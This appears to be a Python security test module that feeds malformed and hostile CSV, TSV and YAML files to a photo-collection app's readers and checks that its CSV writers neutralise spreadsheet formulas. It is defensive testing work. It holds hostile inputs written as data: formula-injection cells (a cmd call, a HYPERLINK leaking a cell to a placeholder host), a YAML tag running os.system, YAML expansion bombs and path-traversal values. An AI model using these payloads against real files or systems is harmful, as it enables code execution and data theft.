"""Tables and YAML that people bring, made to do harm; and what we write, as a spreadsheet would open it."""

from __future__ import annotations

import csv
import functools
import io
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path

from app.papers.csv_table import as_csv
from app.records.yaml_fields import read_fields
from model.csv_file import GrowingFile, line_of
from model.flora import Flora, load_flora
from model.flora.load import read_as, read_yaml
from model.spray import read_forecast
from model.traits.answers import read_answers
from tests.security.hostile_archives import jpeg, names
from tests.security.hostile_watch import Try
from training.audit.decisions import COLUMNS as DECIDED
from training.audit.decisions import read_decisions, write_decisions
from training.collection import Collection, Wishes, open_source, plan_intake
from training.collection.own import read_own
from training.collection.store import COLUMNS
from training.data.manifest import COLUMNS as LISTED
from training.data.manifest import read_manifest
from training.recipes.recipe import Recipe

Reader = Callable[[Path], object]
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "''=1+1",
    "\u00a0=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", '=HYPERLINK("http://x/?"&A1)', '=1+1";=2', "-5",
    "=" + "1" * 600, "\ufeff=1+1", "\u200b=1+1", "\x00=1", "=\n1",
]  # fmt: skip
SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@functools.cache
def flora() -> Flora:
    return load_flora()


def texts(head: str, row: str, between: str = ",", large: bool = True) -> Iterator[tuple[str, bytes]]:
    """Tables of a good head and rows, spoilt; ``row`` is one good row."""
    good = f"{head}\n{row}\n"
    width = head.count(between) + 1
    yield "good", good.encode()
    yield from ((e, good.encode(e)) for e in ("utf-8-sig", "utf-16", "utf-16-le", "utf-32", "cp037", "utf-7"))
    yield from {
        "empty": b"",
        "only a head": f"{head}\n".encode(),
        "no end of line": good.strip().encode(),
        "Latin-1": good.encode() + b"\xe9\xff,\n",
        "NUL": good.encode() + b"\0" * 50 + b"\n",
        "NULs for all": b"\0" * 10_000,
        "bytes": bytes(range(256)) * 20,
        "CR": good.replace("\n", "\r").encode(),
        "blank lines": good.encode() + b"\n" * 100_000,
        "short row": f"{head}\nx\n".encode(),
        "long row": f"{good}{between * 50_000}\n".encode(),
        "quote left open": f'{good}"x{between}y\n{row}\n'.encode(),
        "quotes for ever": (good + '"' * 100_001 + "\n").encode(),
        "huge cell": f"{good}{'x' * 5_000_000}\n".encode(),
        "huge quoted cell": (good + '"' + "x" * 5_000_000 + '"\n').encode(),
        "cell of many lines": (good + '"' + "x\n" * 500_000 + '"\n').encode(),
        "huge line of cells": f"{good}{('y' + between) * 2_000_000}\n".encode(),
        "head of many columns": (between.join(f"c{n}" for n in range(20_000)) + "\n").encode(),
        "head twice": f"{head}{between}{head}\n{row}\n".encode(),
        "formulas": (good + "".join(between.join([f.replace("\n", " ")] * width) + "\n" for f in FORMULAS)).encode(),
        "signs that steer": (good + between.join(["\x1b[2J\u202e"] * width) + "\n").encode(),
        "up": f"{good}{between.join(['../../x'] * width)}\n".encode(),
        "surrogate": f"{good}\ud800\n".encode("utf-8", "surrogatepass"),
        "long numbers": f"{good}{between.join(['9' * 5000] * width)}\n".encode(),
        "infinite": f"{good}{between.join(['1e999'] * width)}\n".encode(),
        "NaN": f"{good}{between.join(['nan'] * width)}\n".encode(),
        "a zip": b"PK\x03\x04" + b"\0" * 500,
        "pickle": b"\x80\x04\x95",
    }.items()
    if not large:
        return
    yield "million rows", (head + "\n" + (row + "\n") * 1_000_000).encode()
    yield "million short rows", (head + "\n" + (between * (width - 1) + "\n") * 1_000_000).encode()


def yamls(good: str) -> Iterator[tuple[str, bytes]]:
    """YAML that is spoilt; ``good`` are a few lines of the right form."""
    key = good.split(":")[0]
    bomb = "a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 12)
    )
    yield "good", good.encode()
    for name, text in {
        "empty": "",
        "list": "[]",
        "text": "x",
        "number": "3",
        "null": "~",
        "two documents": f"{good}---\n{good}",
        "bomb": bomb,
        "bomb used": f"{bomb}{key}: *a11\n",
        "merged bomb": "a: &a {x: 1}\nb: {<<: *a}\n",
        "itself": f"{key}: &a [*a]\n",
        "anchor": f"{key}: &a x\n",
        "deep lists": "[" * 50_000,
        "deep maps": "{a: " * 50_000,
        "deep lines": "".join(" " * n + "a:\n" for n in range(3000)),
        "deep dashes": f"{key}: " + "- " * 20_000,
        "run": f"{key}: !!python/object/apply:os.system [touch swardkey-was-here]\n",
        "name": f"{key}: !!python/name:os.system\n",
        "tag": f"{key}: !x y\n",
        "binary": f"{key}: !!binary x\n",
        "no date": f"{key}: 2026-13-45\n",
        "no stamp": f"{key}: !!timestamp x\n",
        "no truth": f"{key}: !!bool maybe\n",
        "long number": f"{key}: {'9' * 5000}\n",
        "large number": f"{key}: {'9' * 400}\n",
        "infinite": f"{key}: .inf\n",
        "not a number": f"{key}: .nan\n",
        "sixties": f"{key}: {'59:' * 3000}59\n",
        "huge text": f"{key}: {'x' * 900_000}\n",
        "huge key": f"{'x' * 900_000}: y\n",
        "many keys": "".join(f"k{n}: v\n" for n in range(60_000)),
        "key twice": f"{good}{good}",
        "key of a list": "[a, b]: c\n",
        "key of a number": "3: c\n",
        "key of nothing": "~: x\n",
        "tabs": f"{key}:\n\t- x\n",
        "map within": f"{key}: {{x: {{y: z}}}}\n",
        "long list": f"{key}: [{'x,' * 200_000}]\n",
        "signs that steer": f'{key}: "\\e[2J\\u202e"\n',
        "NUL": f'{key}: "\\0"\n',
        "half a pair": f'{key}: "\\ud800"\n',
        "id": f"id: ../../x\n{good}",
        "formula": f"{key}: =1+1\n",
        "not closed": f"{key}: [a\n",
        "million lines": f"{key}: x\n" * 1_000_000,
    }.items():
        yield name, text.encode()
    for encoding in ("utf-8-sig", "utf-16", "utf-16-le", "utf-32", "cp037"):
        yield encoding, good.encode(encoding)
    for name, data in {
        "Latin-1": good.encode() + b"# \xe9\n",
        "NULs": b"\0" * 1000,
        "bytes": bytes(range(256)),
        "30 MB": b"# x\n" * 7_500_000,
    }.items():
        yield name, data


def collect(path: Path) -> object:
    """What `collect add TABLE` does."""
    (path.parent / "a.jpg").write_bytes(jpeg())
    collection = Collection(path.parent / "collection")
    plan = plan_intake(open_source(path, Wishes()), names(), collection, "Kim", skip_unknown=True)
    return collection.add(plan)


def collection_manifest(path: Path) -> object:
    """A collection that somebody else kept."""
    found = Collection(path.parent)
    return found.open().photos()


def folder(path: Path) -> object:
    """A folder of photos with its manifest."""
    return read_manifest(path.parent)


def decisions(path: Path) -> object:
    """Read what was decided, and write the sheet again."""
    found = read_decisions(path, list(flora().species), {"aa/a.jpg": "taraxacum_officinale"})
    write_decisions(path, [])
    return found


def own(path: Path) -> object:
    """Species of the user's own."""
    (path.parent / "species").mkdir(exist_ok=True)
    path.rename(path.parent / "species" / path.name)
    return read_own(path.parent / "species")


def readers(large: bool) -> Iterator[tuple[str, str, Reader, list[tuple[str, bytes]]]]:
    """Every reader of what people bring: its name, the file's name, what reads, and what it is given."""
    photo = f"ab/ab{'0' * 62}.jpg"
    row = ",".join([photo, "taraxacum_officinale", "", "own", "", "", "Kim", "2026-01-01T00:00:00Z", "add", "x"])
    decided = "aa/a.jpg,taraxacum_officinale,,0.5,keep"
    tables: list[tuple[str, str, Reader, str, str, str]] = [
        ("CSV to collect", "t.csv", collect, "photo,species,group", "a.jpg,dandelion,p1", ","),
        ("TSV to collect", "t.tsv", collect, "photo\tspecies", "b.jpg\tdandelion", "\t"),
        ("folder", "manifest.csv", folder, ",".join(LISTED), "a.jpg,dandelion,p1,own,,", ","),
        ("collection", "manifest.csv", collection_manifest, ",".join(COLUMNS), row, ","),
        ("decisions", "d.csv", decisions, ",".join(DECIDED), decided, ","),
        ("forecast", "f.csv", read_forecast, "time,temperature,humidity,wind,rain", "07:00,15,60,8,0", ","),
    ]
    for kind, name, read, head, good, between in tables:
        yield kind, name, read, list(texts(head, good, between, large=large))

    def answers(path: Path) -> object:
        return read_answers(path, flora().characters)

    for kind, name, read, good in (
        ("answers", "a.yaml", answers, "plant_height: 4\n"),
        ("answers of states", "a.yaml", answers, "milky_sap: present\n"),
        ("answers with what can be seen", "a.yaml", answers, "visible: [leaves, roots]\n"),
        ("own species", "rosa_rugosa.yaml", own, "common_names: [Beach rose]\n"),
        ("record", "r.yaml", read_fields, "gear: hand_spray\n"),
        ("recipe", "quick.yaml", lambda p: read_as(p, Recipe), "seed: 1\n"),
        ("any YAML", "x.yaml", read_yaml, "x: y\n"),
    ):
        yield kind, name, read, list(yamls(good))


def tries(box: Path, count: int = 200) -> Iterator[Try]:
    """Every table to every reader, and every formula through every writer; a small ``count`` leaves large ones out."""
    for kind, name, read, some in readers(count >= 200):
        for told, data in some:
            if count < 200 and len(data) > 2_000_000:
                continue

            def act(name: str = name, read: Reader = read, data: bytes = data) -> None:
                shutil.rmtree(box / "home", ignore_errors=True)
                (box / "home").mkdir()
                (box / "home" / name).write_bytes(data)
                read(box / "home" / name)

            yield Try(
                f"brought: {kind}",
                told,
                act,
                "result" if told == "good" and kind not in ("TSV to collect", "recipe") else "either",
            )
    for kind, write in writers(box).items():
        for cell in FORMULAS:
            yield Try(f"written: {kind}", repr(cell)[:30], functools.partial(_check_cells, write, cell), "result")


def writers(box: Path) -> dict[str, Callable[[str], str]]:
    """Every writer of tables for people: a cell in, the text of the table out."""

    def growing(cell: str) -> str:
        file = GrowingFile(box / "home" / "g.csv", ("a", "b"))
        file.path.unlink(missing_ok=True)
        file.append((cell, "x"))
        return file.path.read_text(encoding="utf-8")

    return {
        "collection": lambda cell: line_of([cell, "x"]),
        "collection on the disk": growing,
        "papers": lambda cell: as_csv([(cell, "x")]).decode("utf-8-sig"),
    }


def _check_cells(write: Callable[[str], str], cell: str) -> None:
    """No cell may begin a formula; plain numbers may have a sign."""
    text = write(cell)
    for row in csv.reader(io.StringIO(text, newline="")):
        for found in row:
            bare = found.lstrip(" \0\u00a0\ufeff\u200b")
            number = bare.lstrip("+-").replace(".", "", 1).isdigit()
            assert number or not bare.startswith(SIGNS), repr(found)
